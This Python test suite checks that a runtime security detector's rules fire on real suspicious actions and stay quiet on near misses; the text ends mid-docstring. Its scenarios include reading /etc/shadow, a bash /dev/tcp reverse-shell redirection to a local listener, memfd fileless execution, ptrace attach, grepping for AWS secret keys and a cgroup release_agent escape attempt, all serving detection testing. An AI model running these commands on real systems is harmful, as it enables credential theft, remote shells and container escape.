"""Harrier's default rules (rules/harrier_rules.yaml) against real actions.

Each scenario performs the real action a rule is about (a copied `cat`
reading /etc/shadow, curl connecting to an odd port, a program run from
/dev/shm, ...) and a near miss that must not alert, while the live probe
records (`harrier-inspect -w`, see record_actions.py). The recording is cut
to each action's process tree and replayed with `harrier -r RULES -e`:

- test_live_<scenario>: the positive tree raises the rule, with the fields
  that say who did what;
- test_live_<scenario>_near_miss: the near-miss tree does not raise it;
- test_replay_<scenario>: the recording stored in tests/captures (both trees
  plus this test process's own activity) raises exactly the expected alerts,
  without a kernel;
- test_replay_background_only_expected_rules: every stored recording replayed
  with all rules raises only the rules its scenario expects.

The upstream stable rules (../shared/compat-rules/falco_rules.yaml) are
checked the same way on the matching recordings.

Needs root for the live tests. Container scenarios run real podman
containers (runc, no network, an image made from busybox and bash).
"""
import gzip
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

import containers
import record_actions as ra

RULES = os.path.join(ra.ROOT, "rules", "harrier_rules.yaml")
UPSTREAM = os.path.normpath(os.path.join(ra.ROOT, "..", "shared", "compat-rules", "falco_rules.yaml"))
IMAGE = containers.IMAGE

# The live scenarios (recorded with harrier-inspect, or judged by harrier
# live) run on the normal build only: under the sanitizer build on a loaded
# 2-CPU machine the recorder missed its start markers for 30 s in a CI run.
# The replay tests over the same stored captures run on both builds, and
# the live paths themselves run under ASan in test_live/test_live_detector.
NORMAL_BUILD_ONLY = ("test_live_", "test_detector_")

PENDING_TESTS = {}


# ---- helpers the actions share ----------------------------------------------

class Listener:
    """A TCP server on 127.0.0.1 that accepts, reads a little and closes."""

    def __init__(self, port=0):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", port))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            c.settimeout(1.0)
            try:
                c.recv(512)
            except OSError:
                pass
            c.close()

    def close(self):
        # shutdown wakes the thread blocked in accept, which otherwise keeps
        # the port listening after close
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.thread.join(timeout=5)


def free_listener(ports):
    """A Listener on the first of `ports` that can be bound."""
    for port in ports:
        try:
            return Listener(port)
        except OSError:
            continue
    raise AssertionError("none of the ports %s can be bound on 127.0.0.1" % (ports,))


def copy_program(src, directory, name):
    os.makedirs(directory, exist_ok=True)
    dst = os.path.join(directory, name)
    shutil.copy(src, dst)
    os.chmod(dst, 0o755)
    return dst


def spawn(args, **kw):
    """Starts an action with fork+exec and waits for it. Not vfork, and the
    scripts run in bash, which forks, not dash, which uses vfork: see the
    pending vfork test."""
    saved = subprocess._USE_VFORK
    subprocess._USE_VFORK = False
    try:
        a = ra.Action(args, **kw)
    finally:
        subprocess._USE_VFORK = saved
    a.wait()
    return a


def python(code):
    return [sys.executable, "-c", code]


# ---- containers (tests/containers.py: image, podman options, cleanup) -----------------------

def container_name(tag):
    return containers.name("rules-" + tag)


# ---- scenarios ------------------------------------------------------------------
#
# A scenario prepares (outside the recording), then performs its positive and
# near-miss actions while recorded, and says what alerts each must raise.
# `expect` lists (rule, {field: value}) that the positive tree must raise (each
# at least once, with those output fields); `positive_rules` is every rule the
# positive tree may raise (the expected ones plus rules its action rightly
# also trips); `near_miss_forbids` the rules the near miss must not raise.

class Scenario:
    container = False

    def __init__(self, ctx, work):
        self.ctx = ctx
        self.work = work

    def prepare(self):
        pass

    def positive(self):
        raise NotImplementedError

    def near_miss(self):
        raise NotImplementedError

    def cleanup(self):
        pass


class SensitiveRead(Scenario):
    name = "sensitive_file_read"
    rule = "Sensitive file read by untrusted program"

    def prepare(self):
        self.cat = copy_program("/bin/cat", os.path.join(self.work, "copied"), "cat")

    def positive(self):
        return [spawn([self.cat, "/etc/shadow"])]

    def near_miss(self):
        # a file that is not sensitive, and a sensitive one only looked at
        return [spawn([self.cat, "/etc/passwd"]), spawn(["/usr/bin/stat", "/etc/shadow"])]

    def expect(self):
        return [(self.rule, {"fd.name": "/etc/shadow", "proc.name": "cat",
                             "proc.cmdline": "cat /etc/shadow", "user.uid": 0})]


class OutboundPort(Scenario):
    name = "outbound_unexpected_port"
    rule = "Outbound connection to unexpected port"

    def prepare(self):
        self.odd = Listener()
        self.http = free_listener([8080, 8443, 80, 443])

    def positive(self):
        return [spawn(["/usr/bin/curl", "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.odd.port])]

    def near_miss(self):
        # curl to an HTTP port is on its allow-list; unix sockets are not IP
        return [spawn(["/usr/bin/curl", "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.http.port]),
                spawn(python("import socket\ns = socket.socket(socket.AF_UNIX)\n"
                             "try: s.connect('/run/harrier-no-such-socket')\nexcept OSError: pass"))]

    def expect(self):
        return [(self.rule, {"proc.name": "curl", "fd.sport": self.odd.port, "fd.sip": "127.0.0.1",
                             "fd.l4proto": "tcp"})]

    def cleanup(self):
        self.odd.close()
        self.http.close()


class BinaryDirWrite(Scenario):
    name = "write_below_binary_dir"
    rule = "Write below binary directory"

    def prepare(self):
        self.target = "/usr/local/bin/harrier-rules-test-%d" % os.getpid()
        self.other = "/usr/local/share/harrier-rules-test-%d" % os.getpid()
        self.lookalike = os.path.join(self.work, "usr", "bin", "harrier-rules-test")
        os.makedirs(os.path.dirname(self.lookalike), exist_ok=True)

    def _ops(self, path):
        return ("echo x > {p} && chmod 755 {p} && mv {p} {p}.moved && rm {p}.moved"
                .format(p=path))

    def positive(self):
        return [spawn(["/bin/bash", "-c", self._ops(self.target)])]

    def near_miss(self):
        # the same operations beside the binary directories, and a read in one
        return [spawn(["/bin/bash", "-c", self._ops(self.other)]),
                spawn(["/bin/bash", "-c", self._ops(self.lookalike)]),
                spawn(["/usr/bin/head", "-c", "4", "/usr/bin/env"])]

    def expect(self):
        return [(self.rule, {"evt.type": t, "proc.name": n}) for t, n in
                (("openat", "bash"), ("fchmodat", "chmod"), ("renameat2", "mv"), ("unlinkat", "rm"))]

    def cleanup(self):
        for p in (self.target, self.target + ".moved", self.other, self.other + ".moved"):
            if os.path.exists(p):
                os.unlink(p)


class DevRegularFile(Scenario):
    name = "regular_file_under_dev"
    rule = "Regular file created under /dev"

    def prepare(self):
        self.path = "/dev/harrier-rules-test-%d" % os.getpid()
        self.shm = "/dev/shm/harrier-rules-test-%d" % os.getpid()

    def positive(self):
        return [spawn(["/bin/bash", "-c", "echo hidden > %s" % self.path])]

    def near_miss(self):
        # a device opened with O_CREAT by a redirection, a file in /dev/shm
        return [spawn(["/bin/bash", "-c", "echo nothing > /dev/null; echo shared > %s" % self.shm])]

    def expect(self):
        return [(self.rule, {"fd.name": self.path, "proc.name": "bash"})]

    def cleanup(self):
        for p in (self.path, self.shm):
            if os.path.exists(p):
                os.unlink(p)


class Webcam(Scenario):
    name = "webcam_open"
    rule = "Webcam opened by untrusted program"

    def positive(self):
        assert not os.path.exists("/dev/video0"), "this machine has a camera: the test expects none"
        return [spawn(["/bin/cat", "/dev/video0"])]

    def near_miss(self):
        return [spawn(["/bin/cat", "/dev/null"]), spawn(["/bin/cat", "/dev/vhost-net-harrier-missing"])]

    def expect(self):
        return [(self.rule, {"evt.arg.name": "/dev/video0", "evt.res": "ENOENT", "proc.name": "cat"})]


class RawDisk(Scenario):
    name = "raw_disk_open"
    rule = "Raw disk opened by untrusted program"

    def prepare(self):
        disks = [d for d in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda") if os.path.exists(d)]
        assert disks, "no disk device found"
        self.disk = disks[0]

    def positive(self):
        return [spawn(["/usr/bin/dd", "if=%s" % self.disk, "of=/dev/null", "bs=512", "count=1"])]

    def near_miss(self):
        # a trusted disk tool, and dd on a device that is not a disk
        return [spawn(["/usr/sbin/blkid", self.disk]),
                spawn(["/usr/bin/dd", "if=/dev/zero", "of=/dev/null", "bs=512", "count=1"])]

    def expect(self):
        # opening the disk is refused in this VM (EPERM): the attempt counts
        return [(self.rule, {"evt.arg.name": self.disk, "proc.name": "dd"})]


class UtilityNetwork(Scenario):
    name = "local_utility_network"
    rule = "Network activity by local utility"

    def prepare(self):
        self.odd = Listener()
        self.http = free_listener([8080, 8443, 80, 443])
        # a network program disguised under a local utility's name
        self.fake_cat = copy_program("/usr/bin/curl", os.path.join(self.work, "trojan"), "cat")

    def positive(self):
        return [spawn([self.fake_cat, "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.odd.port])]

    def near_miss(self):
        # utilities doing their local work (ls -l may ask nscd over a unix
        # socket); curl itself is no local utility
        return [spawn(["/bin/ls", "-l", "/"]), spawn(["/bin/cat", "/etc/hostname"]),
                spawn(["/usr/bin/curl", "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.http.port])]

    def expect(self):
        return [(self.rule, {"evt.type": "connect", "proc.name": "cat",
                             "fd.name": Contains("->127.0.0.1:%d" % self.odd.port)})]

    positive_also = ["Outbound connection to unexpected port"]

    def cleanup(self):
        self.odd.close()
        self.http.close()


class KernelModule(Scenario):
    name = "kernel_module_load"
    rule = "Kernel module load attempted"

    CODE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
image = ctypes.create_string_buffer(b'\\x7fELF' + b'\\0' * 60)
libc.syscall(175, image, 64, b'')              # init_module
fd = os.open('/bin/true', os.O_RDONLY)
libc.syscall(313, fd, b'', 0)                  # finit_module
"""

    def positive(self):
        return [spawn(python(self.CODE))]

    def near_miss(self):
        # the same file opened, no module syscall
        return [spawn(python("import os\nos.close(os.open('/bin/true', os.O_RDONLY))"))]

    def expect(self):
        return [(self.rule, {"evt.type": "init_module", "proc.name": "python3"}),
                (self.rule, {"evt.type": "finit_module", "proc.name": "python3"})]


class Ptrace(Scenario):
    name = "ptrace_attach"
    rule = "Ptrace attach to process"

    ATTACH = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    time.sleep(10)
    os._exit(0)
assert libc.ptrace(16, pid, 0, 0) == 0, ctypes.get_errno()   # PTRACE_ATTACH
os.waitpid(pid, 0)
libc.ptrace(17, pid, 0, 0)                                    # PTRACE_DETACH
os.kill(pid, 9)
os.waitpid(pid, 0)
"""
    TRACEME = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    libc.ptrace(0, 0, 0, 0)                                   # PTRACE_TRACEME
    os._exit(0)
os.waitpid(pid, 0)
"""

    def positive(self):
        return [spawn(python(self.ATTACH))]

    def near_miss(self):
        return [spawn(python(self.TRACEME))]

    def expect(self):
        return [(self.rule, {"evt.arg.request": "PTRACE_ATTACH", "proc.name": "python3"})]


class Memfd(Scenario):
    name = "fileless_memfd_exec"
    rule = "Fileless execution from memfd"

    EXEC = """
import os
fd = os.memfd_create('harrier-payload', 0)
os.write(fd, open('/bin/true', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['payload'])
"""
    NO_EXEC = """
import os
fd = os.memfd_create('harrier-buffer', 0)
os.write(fd, open('/bin/true', 'rb').read())
os.execv('/bin/true', ['true'])
"""

    def positive(self):
        return [spawn(python(self.EXEC))]

    def near_miss(self):
        return [spawn(python(self.NO_EXEC))]

    def expect(self):
        # the path exec'd, or the real one where the source knows it
        return [(self.rule, {"proc.exepath": OneOf(("/proc/self/fd/3", "/memfd:harrier-payload (deleted)",
                                                            "/memfd:harrier-payload"))})]


class DevShmExec(Scenario):
    name = "exec_from_dev_shm"
    rule = "Program run from /dev/shm"

    def prepare(self):
        self.prog = copy_program("/bin/true", "/dev/shm", "harrier-rules-true-%d" % os.getpid())
        self.tmp_prog = copy_program("/bin/true", self.work, "harrier-rules-true")

    def positive(self):
        return [spawn([self.prog])]

    def near_miss(self):
        # the same program run from elsewhere; the /dev/shm copy only read
        return [spawn([self.tmp_prog]), spawn(["/bin/cat", self.prog])]

    def expect(self):
        return [(self.rule, {"proc.exepath": self.prog, "proc.name": os.path.basename(self.prog)[:15]})]

    def cleanup(self):
        os.unlink(self.prog)


class LogClear(Scenario):
    name = "log_file_cleared"
    rule = "Log file cleared"

    def prepare(self):
        self.log = "/var/log/harrier-rules-test-%d.log" % os.getpid()
        self.tmp_log = os.path.join(self.work, "app.log")
        for p in (self.log, self.tmp_log):
            with open(p, "w") as f:
                f.write("entry\n")

    def positive(self):
        return [spawn(["/bin/bash", "-c", ": > %s" % self.log])]

    def near_miss(self):
        # appending to the log, truncating a log that is not below /var/log
        return [spawn(["/bin/bash", "-c", "echo more >> %s; : > %s" % (self.log, self.tmp_log)])]

    def expect(self):
        return [(self.rule, {"fd.name": self.log, "proc.name": "bash"})]

    def cleanup(self):
        os.unlink(self.log)


class Symlink(Scenario):
    name = "symlink_to_sensitive_file"
    rule = "Link to sensitive file"

    def positive(self):
        return [spawn(["/bin/ln", "-s", "/etc/shadow", os.path.join(self.work, "innocent")])]

    def near_miss(self):
        return [spawn(["/bin/ln", "-s", "/etc/hostname", os.path.join(self.work, "name")])]

    def expect(self):
        return [(self.rule, {"evt.type": "symlinkat", "proc.name": "ln",
                             "evt.args": Contains("target=/etc/shadow ")})]


class Hardlink(Scenario):
    name = "hardlink_to_sensitive_file"
    rule = "Link to sensitive file"

    def positive(self):
        # /tmp may be another file system: the attempt is what counts
        return [spawn(["/bin/ln", "/etc/shadow", os.path.join(self.work, "innocent")])]

    def near_miss(self):
        other = os.path.join(self.work, "plain")
        with open(other, "w") as f:
            f.write("x")
        return [spawn(["/bin/ln", other, os.path.join(self.work, "plain2")])]

    def expect(self):
        return [(self.rule, {"evt.type": "linkat", "proc.name": "ln", "evt.args": Contains("/etc/shadow")})]

    def cleanup(self):
        p = os.path.join(self.work, "innocent")
        if os.path.exists(p):
            os.unlink(p)


class ReverseShell(Scenario):
    name = "stdio_to_network"
    rule = "Standard stream redirected to network connection"

    def prepare(self):
        self.server = Listener()

    def positive(self):
        return [spawn(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/%d; exec 0<&3 1>&3; echo hi"
                       % self.server.port])]

    def near_miss(self):
        # a socket kept on fd 5, and stdout redirected to a file
        return [spawn(["/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/%d; exec 1>%s; echo hi"
                       % (self.server.port, os.path.join(self.work, "out.txt"))])]

    def expect(self):
        return [(self.rule, {"evt.rawres": 0, "proc.name": "bash"}),
                (self.rule, {"evt.rawres": 1, "proc.name": "bash"})]

    positive_also = ["Outbound connection to unexpected port"]
    near_miss_also = ["Outbound connection to unexpected port"]

    def cleanup(self):
        self.server.close()


class SystemUserShell(Scenario):
    name = "system_user_interactive_shell"
    rule = "Interactive shell by system user"

    # script runs its command with $SHELL: bash, which execs it without vfork
    ENV = dict(ra.CLEAN_ENV, SHELL="/bin/bash")

    def positive(self):
        return [spawn(["/usr/bin/script", "-qc", "/usr/sbin/runuser -u daemon -- /bin/bash -c true", "/dev/null"],
                      env=self.ENV)]

    def near_miss(self):
        # root's shell on a terminal, the system user's shell without one
        return [spawn(["/usr/bin/script", "-qc", "/bin/bash -c true", "/dev/null"], env=self.ENV),
                spawn(["/usr/sbin/runuser", "-u", "daemon", "--", "/bin/bash", "-c", "true"])]

    def expect(self):
        return [(self.rule, {"user.uid": 1, "proc.name": "bash", "proc.pname": "runuser",
                             "proc.cmdline": "bash -c true"})]


class AwsSearch(Scenario):
    name = "aws_credential_search"
    rule = "AWS credential search"

    def prepare(self):
        os.makedirs(os.path.join(self.work, "home", ".aws"), exist_ok=True)
        with open(os.path.join(self.work, "home", ".aws", "config"), "w") as f:
            f.write("[default]\nregion = eu-west-1\n")

    def positive(self):
        home = os.path.join(self.work, "home")
        return [spawn(["/bin/grep", "-r", "aws_secret_access_key", home]),
                spawn(["/usr/bin/find", home, "-path", "*.aws/credentials"])]

    def near_miss(self):
        home = os.path.join(self.work, "home")
        return [spawn(["/bin/grep", "-r", "region", home]),
                spawn(["/bin/cat", os.path.join(home, ".aws", "config")])]

    def expect(self):
        return [(self.rule, {"proc.name": "grep"}), (self.rule, {"proc.name": "find"})]


class ContainerScenario(Scenario):
    """Its actions run podman; the container's processes descend from
    podman's conmon, not from the action, so each action also knows its
    container (name and id, from --cidfile) to be traced by."""
    container = True

    def prepare(self):
        containers.ensure_image()
        self.names = []

    def podman_run(self, tag, extra, command):
        name = container_name(tag)
        if name in self.names:  # repeated (the live detector repeats the positive)
            name += "-%d" % len(self.names)
        self.names.append(name)
        cidfile = os.path.join(self.work, name + ".cid")
        return name, cidfile, containers.RUN + ["--rm", "--cidfile", cidfile, "--name", name, *extra, IMAGE,
                                                *command]

    def traced(self, action, name, cidfile):
        with open(cidfile) as f:
            action.containers = {name, f.read().strip()[:12]}
        return action

    def run_container(self, tag, command, extra=()):
        name, cidfile, args = self.podman_run(tag, extra, command)
        return self.traced(spawn(args), name, cidfile)

    def cleanup(self):
        for n in self.names:
            containers.remove(n)


class ContainerShell(ContainerScenario):
    name = "shell_in_container"
    rule = "Shell started in container"

    def positive(self):
        return [self.run_container("shell", ["/bin/bash", "-c", "exit 0"])]

    def near_miss(self):
        # a shell on the host; a container running no shell
        return [spawn(["/bin/bash", "-c", "exit 0"]), self.run_container("noshell", ["/bin/true"])]

    def expect(self):
        return [(self.rule, {"proc.name": "bash", "container.image": IMAGE,
                             # repeated positives (live detector) add "-N"
                             "container.name": Contains(container_name("shell"))})]


class ContainerTty(ContainerScenario):
    """bash with a terminal in a container: Falco's 'Terminal shell in container'."""
    name = "terminal_shell_in_container"
    rule = "Shell started in container"

    def positive(self):
        name, cidfile, args = self.podman_run("tty", ["-it"], ["/bin/bash", "-c", "true"])
        return [self.traced(spawn(["/usr/bin/script", "-qc", " ".join(args), "/dev/null"], env=SystemUserShell.ENV),
                            name, cidfile)]

    def near_miss(self):
        return [spawn(["/usr/bin/script", "-qc", "/bin/bash -c true", "/dev/null"], env=SystemUserShell.ENV)]

    def expect(self):
        return [(self.rule, {"proc.name": "bash", "container.image": IMAGE})]


class PacketSocket(ContainerScenario):
    name = "packet_socket_in_container"
    rule = "Packet socket opened in container"

    def positive(self):
        return [self.run_container("arping", ["/bin/arping", "-c", "1", "-w", "1", "-I", "lo", "127.0.0.1"])]

    def near_miss(self):
        # a packet socket on the host is not in a container
        return [spawn(python("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()"))]

    def expect(self):
        return [(self.rule, {"proc.name": "arping", "container.image": IMAGE})]


class ReleaseAgent(ContainerScenario):
    name = "release_agent_in_container"
    rule = "Container escape via release_agent"

    # tee opens its file for writing (no shell: that would be another rule)
    def positive(self):
        # unprivileged: the cgroup file system is read-only, the attempt fails
        return [self.run_container("agent", ["/bin/tee", "/sys/fs/cgroup/memory/release_agent"])]

    def near_miss(self):
        return [self.run_container("agentfile", ["/bin/tee", "/tmp/release_agent.txt"])]

    def expect(self):
        return [(self.rule, {"proc.name": "tee", "evt.arg.name": "/sys/fs/cgroup/memory/release_agent",
                             "container.image": IMAGE})]


class PrivilegedContainer(ContainerScenario):
    name = "privileged_container"
    rule = "Privileged container started"

    def positive(self):
        return [self.run_container("priv", ["/bin/true"], extra=["--privileged"])]

    def near_miss(self):
        return [self.run_container("unpriv", ["/bin/true"])]

    def expect(self):
        # repeated positives (live detector) add "-N" to the name
        return [(self.rule, {"container.name": Contains(container_name("priv")), "container.image": IMAGE})]


SCENARIOS = [SensitiveRead, OutboundPort, BinaryDirWrite, DevRegularFile, Webcam, RawDisk, UtilityNetwork,
             KernelModule, Ptrace, Memfd, DevShmExec, LogClear, Symlink, Hardlink, ReverseShell,
             SystemUserShell, AwsSearch, ContainerShell, ContainerTty, PacketSocket, ReleaseAgent,
             PrivilegedContainer]
BY_NAME = {s.name: s for s in SCENARIOS}


# ---- recording and checking --------------------------------------------------------

class Recorded:
    """One scenario recorded live: the positive, near-miss and whole-test cuts."""

    def __init__(self, positive, near_miss, whole, scenario):
        self.positive = positive
        self.near_miss = near_miss
        self.whole = whole
        self.scenario = scenario


_RECORDED = {}


def record(ctx, cls):
    """Records scenario `cls` once per build under test (its positive and
    near-miss tests share the recording)."""
    key = (ctx.build, cls.name)
    if key in _RECORDED:
        return _RECORDED[key]
    if os.geteuid() != 0:
        raise AssertionError("live recording needs root")
    work = tempfile.mkdtemp(prefix="harrier-rules-%s-" % cls.name)
    sc = cls(ctx, work)
    full = os.path.join(work, "full.scap")
    rec = None
    # the recorder writes container records with what podman's API says
    api = containers.ApiService() if cls.container else None
    try:
        sc.prepare()
        if api:
            api.__enter__()
        rec = ra.Recording(ctx, full)
        rec.marker()
        pos = sc.positive()
        neg = sc.near_miss()
        rec.stop()
        rec = None
        me = os.getpid()

        def tree(actions):
            ids = sorted(c for a in actions for c in getattr(a, "containers", ()) if len(c) == 12)
            return "(" + " or ".join([a.tree_filter() for a in actions] +
                                     ["container.id=%s" % c for c in ids]) + ")"
        cuts = {}
        for part, flt, threads in (("positive", tree(pos), None), ("near_miss", tree(neg), None),
                                   ("whole", tree(pos + neg)[:-1] + " or proc.pid=%d or proc.apid=%d)" % (me, me),
                                    me)):
            cuts[part] = os.path.join(work, part + ".scap")
            ra.trim(ctx, full, cuts[part], flt, keep_threads_of=threads)
        os.unlink(full)
    finally:
        if rec is not None:
            rec.kill()
        if api:
            api.__exit__(None, None, None)
        sc.cleanup()
    result = Recorded(cuts["positive"], cuts["near_miss"], cuts["whole"], sc)
    _RECORDED[key] = result
    return result


class Contains(str):
    """An expected output field value that must contain this text."""

    def to_json(self):
        return {"contains": str(self)}


class OneOf(tuple):
    """An expected output field value that may be any of these."""

    def to_json(self):
        return {"one_of": list(self)}


def field_matches(alert, field, want):
    have = alert.get("output_fields", {}).get(field, "<absent>")
    if isinstance(want, Contains):
        return isinstance(have, str) and want in have
    if isinstance(want, OneOf):
        return any(have == w or str(have) == str(w) for w in want)
    return have == want or str(have) == str(want)


def expectation_from_json(v):
    if isinstance(v, dict) and "contains" in v:
        return Contains(v["contains"])
    if isinstance(v, dict) and "one_of" in v:
        return OneOf(v["one_of"])
    return v


def check_expected(alerts, expected, label):
    for rule, fields in expected:
        candidates = [a for a in alerts if a["rule"] == rule]
        if not any(all(field_matches(a, f, v) for f, v in fields.items()) for a in candidates):
            raise AssertionError("%s: no alert %r with %s; alerts of the rule: %s; all rules raised: %s" % (
                label, rule, fields, [a.get("output_fields") for a in candidates][:5],
                sorted({a["rule"] for a in alerts})))


def allowed_rules(sc):
    return {sc.rule} | set(getattr(sc, "positive_also", []))


def near_miss_allowed(sc):
    return set(getattr(sc, "near_miss_also", []))


def rule_names():
    with open(RULES) as f:
        return {line[len("- rule: "):].strip() for line in f if line.startswith("- rule: ")}


def live_positive(cls):
    def test(ctx):
        rec = record(ctx, cls)
        alerts = ra.replay(ctx, rec.positive, RULES)
        check_expected(alerts, rec.scenario.expect(), cls.name)
        unexpected = sorted({a["rule"] for a in alerts} - allowed_rules(rec.scenario))
        assert not unexpected, "%s: the action also raised %s" % (cls.name, unexpected)
    test.__doc__ = "%s: the real action raises %r." % (cls.name, cls.rule)
    return test


def live_near_miss(cls):
    def test(ctx):
        assert cls.rule in rule_names(), "no rule %r in %s" % (cls.rule, RULES)
        rec = record(ctx, cls)
        alerts = ra.replay(ctx, rec.near_miss, RULES)
        raised = sorted({a["rule"] for a in alerts} - near_miss_allowed(rec.scenario))
        assert not raised, "%s near miss raised %s: %s" % (cls.name, raised,
                                                            [a["output"] for a in alerts][:5])
        # the near miss was recorded: its processes are in the cut
        p = ctx.inspect("-r", rec.near_miss, "-p", "%proc.name", "evt.type=execve and evt.dir=<")
        assert p.stdout.strip(), "%s: the near-miss recording holds no exec" % cls.name
    test.__doc__ = "%s: the near miss does not raise %r." % (cls.name, cls.rule)
    return test


def stored_capture(name):
    return os.path.join(ra.CAPTURES, name + ".scap")


def expected_in_whole(sc):
    return allowed_rules(sc) | near_miss_allowed(sc)


def replay_stored(cls):
    def test(ctx):
        path = stored_capture(cls.name)
        assert os.path.exists(path), "%s is missing: record it with python3 tests/record_actions.py" % path
        sc = cls(ctx, ra.CAPTURES)
        expect = STORED_EXPECTATIONS.get(cls.name)
        assert expect is not None, "no stored expectations for %s" % cls.name
        alerts = ra.replay(ctx, path, RULES)
        check_expected(alerts, expect, path)
        unexpected = sorted({a["rule"] for a in alerts} - expected_in_whole(sc))
        assert not unexpected, "%s raised %s" % (path, unexpected)
    test.__doc__ = "%s: the stored recording raises %r without a kernel." % (cls.name, cls.rule)
    return test


# ContainerTty only serves the upstream 'Terminal shell in container' test.
for cls in SCENARIOS:
    if cls is not ContainerTty:
        globals()["test_live_" + cls.name] = live_positive(cls)
        globals()["test_live_" + cls.name + "_near_miss"] = live_near_miss(cls)


# ---- stored recordings -------------------------------------------------------------------
#
# Expected alerts of each stored recording, with the values its recording had
# (paths and ports chosen when it was recorded are kept in STORED_VALUES).

STORED_VALUES_FILE = os.path.join(ra.CAPTURES, "values.json")


def _stored_values():
    import json
    if not os.path.exists(STORED_VALUES_FILE):
        return {}
    with open(STORED_VALUES_FILE) as f:
        return json.load(f)


def _expectations():
    out = {}
    for name, exp in _stored_values().items():
        out[name] = [(rule, {f: expectation_from_json(v) for f, v in fields.items()}) for rule, fields in exp]
    return out


STORED_EXPECTATIONS = _expectations()

for name in sorted(STORED_EXPECTATIONS):
    if name in BY_NAME:
        globals()["test_replay_" + name] = replay_stored(BY_NAME[name])


def test_replay_all_scenarios_stored(ctx):
    """Every scenario with a meaningful live recording has it stored."""
    wanted = [s.name for s in SCENARIOS if s not in NOT_STORED]
    missing = [n for n in wanted if n not in STORED_EXPECTATIONS or not os.path.exists(stored_capture(n))]
    assert not missing, "no stored recording for %s (python3 tests/record_actions.py)" % missing


def test_replay_background_only_expected_rules(ctx):
    """Every stored recording (its actions plus this test process's own
    activity while recording) raises only the rules its scenario expects."""
    problems = []
    for name in sorted(STORED_EXPECTATIONS):
        sc = BY_NAME[name](ctx, ra.CAPTURES)
        alerts = ra.replay(ctx, stored_capture(name), RULES)
        extra = sorted({a["rule"] for a in alerts} - expected_in_whole(sc))
        if extra:
            problems.append("%s: %s" % (name, extra))
    assert STORED_EXPECTATIONS, "no stored recordings"
    assert not problems, "unexpected rules: %s" % problems


# ---- the test suite's own activity ---------------------------------------------------------

BACKGROUND = "suite_background"


def suite_activity(ctx, work):
    """What the test suite itself does all day: run Harrier's programs and
    sysdig on captures, validate rules, write and remove scratch files."""
    trace = ctx.traces()[0]
    acts = [spawn([ctx.bin("harrier-inspect"), "-r", trace, "-n", "50"]),
            spawn([ctx.bin("harrier"), "-V", RULES]),
            spawn([ctx.bin("harrier"), "-r", RULES, "-e", trace]),
            spawn(["/bin/bash", "-c", "mkdir -p {w}/a/b && echo x > {w}/a/b/f && cp {w}/a/b/f {w}/g && "
                   "mv {w}/g {w}/h && chmod 600 {w}/h && rm -r {w}/a {w}/h".format(w=work)]),
            spawn(python("import json, tempfile, os\n"
                         "with tempfile.NamedTemporaryFile('w', delete=False) as f: json.dump({'a': 1}, f)\n"
                         "os.unlink(f.name)"))]
    if shutil.which("sysdig"):
        acts.append(spawn([shutil.which("sysdig"), "-r", trace, "-n", "20"]))
    return acts


def record_background(ctx):
    key = (ctx.build, BACKGROUND)
    if key not in _RECORDED:
        if os.geteuid() != 0:
            raise AssertionError("live recording needs root")
        work = tempfile.mkdtemp(prefix="harrier-rules-background-")
        full = os.path.join(work, "full.scap")
        whole = os.path.join(work, "whole.scap")
        rec = ra.Recording(ctx, full)
        try:
            rec.marker()
            suite_activity(ctx, work)
            rec.stop()
        finally:
            rec.kill()
        me = os.getpid()
        ra.trim(ctx, full, whole, "(proc.pid=%d or proc.apid=%d)" % (me, me), keep_threads_of=me)
        os.unlink(full)
        _RECORDED[key] = whole
    return _RECORDED[key]


def assert_background_quiet(ctx, path):
    alerts = ra.replay(ctx, path, RULES)
    assert not alerts, "the suite's own activity raised: %s" % [a["output"] for a in alerts][:5]
    # it holds the activity: harrier's programs ran in it
    p = ctx.inspect("-r", path, "-p", "%proc.name", "evt.type=execve and evt.dir=<")
    names = set(p.stdout.decode().split())
    assert {"harrier-inspect", "harrier", "bash", "rm"} <= names, names


def test_live_suite_background_raises_nothing(ctx):
    """The test suite's own activity, recorded live, raises no default rule."""
    assert_background_quiet(ctx, record_background(ctx))


def test_replay_suite_background(ctx):
    """The stored recording of the suite's own activity raises nothing."""
    path = stored_capture(BACKGROUND)
    assert os.path.exists(path), "%s is missing: record it with python3 tests/record_actions.py" % path
    assert_background_quiet(ctx, path)


def test_rules_describe_themselves(ctx):
    """harrier -L lists every default rule with its description."""
    p = ctx.run([ctx.bin("harrier"), "-r", RULES, "-L", "-o", "log_stderr=false"])
    text = p.stdout.decode()
    names = rule_names()
    missing = [n for n in sorted(names) if n not in text]
    assert not missing, "harrier -L does not list %s:\n%s" % (missing, text[:2000])
    for scenario_rule in {s.rule for s in SCENARIOS} - {PrivilegedContainer.rule}:
        assert scenario_rule in names, "no rule %r in %s" % (scenario_rule, RULES)


def check_container_shell_alert(alerts):
    alerts = [a for a in alerts if a["rule"] == ContainerShell.rule]
    assert alerts, "no container-shell alert"
    f = alerts[0]["output_fields"]
    assert f.get("container.id") not in (None, "host") and len(f["container.id"]) == 12, f
    assert (f.get("container.name") or "").startswith(container_name("shell")) and f.get("container.image") == IMAGE, f


def test_live_container_names_in_alert(ctx):
    """The container-shell alert of a recording names the container (id,
    name) and its image."""
    check_container_shell_alert(ra.replay(ctx, record(ctx, ContainerShell).positive, RULES))


def test_detector_container_names_in_alert(ctx):
    """harrier live: the container-shell alert names the container (id,
